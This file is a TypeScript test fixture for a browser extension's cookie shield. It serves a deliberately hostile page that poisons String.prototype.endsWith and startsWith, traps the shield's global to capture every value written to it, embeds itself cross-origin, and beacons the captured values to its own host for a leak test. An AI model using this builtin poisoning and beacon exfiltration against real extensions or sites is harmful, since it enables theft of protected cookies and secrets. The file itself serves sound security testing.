// A page that tries to read what the extension hands another site's frames (issue #22): served at HOSTILE_PATH on
// any host, it replaces the builtins a check written in the page's world would use and traps the cookie shield's
// global (src/cookie-shield/shield-global.ts), keeping every value written to it. With `?embed=<host>` it also embeds
// itself from that host. On the message "report" it sends what it trapped to its own host as
// `/__hostile-report/<JSON of the values>?visit=<visit>`, for the log to judge.
import { SHIELD_GLOBAL } from '../../../src/cookie-shield/shield-global';

export const HOSTILE_PATH = '/__hostile-frame';
export const HOSTILE_REPORT_PREFIX = '/__hostile-report/';

/** The page's HTML; `frameSrc` is the embedded copy's URL, or null for the embedded copy itself. */
export function hostilePageHtml(visit: string, frameSrc: string | null): string {
  const script = `(function () {
  var got = [];
  window.__hostileGot = got;
  String.prototype.endsWith = function () { return true; };
  String.prototype.startsWith = function () { return true; };
  Object.defineProperty(window, ${JSON.stringify(SHIELD_GLOBAL)}, {
    configurable: true,
    get: function () { return got[got.length - 1]; },
    set: function (value) { got.push(value); },
  });
  addEventListener('message', function (event) {
    if (event.data !== 'report') return;
    new Image().src = ${JSON.stringify(HOSTILE_REPORT_PREFIX)} + encodeURIComponent(JSON.stringify(got)) + '?visit=' + ${JSON.stringify(encodeURIComponent(visit))};
  });
})();`;
  const frame = frameSrc === null ? '' : `<iframe src="${frameSrc.replace(/"/g, '&quot;')}"></iframe>`;
  return `<!doctype html><title>hostile</title><script>${script}</script><p>hostile page</p>${frame}\n`;
}

/** The embedded copy's URL on `host`, given the page's URL (`origin` maps a host to its replica origin). */
export function hostileFrameSrc(url: URL, origin: (host: string) => string): string | null {
  const embed = url.searchParams.get('embed');
  return embed === null ? null : `${origin(embed)}${HOSTILE_PATH}?visit=${encodeURIComponent(url.searchParams.get('visit') ?? '')}`;
}
